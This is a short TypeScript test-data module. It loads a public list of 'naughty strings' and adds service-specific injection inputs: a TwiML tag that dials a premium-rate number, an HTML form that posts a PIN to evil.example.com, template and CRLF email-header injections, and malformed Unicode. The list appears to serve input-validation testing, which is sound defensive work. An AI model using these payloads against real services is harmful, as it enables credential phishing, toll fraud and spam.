import { readFileSync } from 'node:fs'

/** The big list of naughty strings (minimaxir, MIT), and a few that aim at this service. */
export const NAUGHTY_STRINGS: readonly string[] = [
  ...JSON.parse(readFileSync('../shared/data/blns/blns.json', 'utf8')),
  '</Say></Gather><Dial>+19005550143</Dial>',
  '"><form action="https://evil.example.com"><input name=pin>',
  '{{ pin }} {% include "x" %} $t(common.problem) {{missing}}',
  'Willow\r\nBcc: everyone@example.com\r\n\r\nHello',
  'Willow\n@evil.example.com #000000',
  '\u202Eegnellahc\u2066\uD800\uFFFE',
  'A'.repeat(100_000),
]
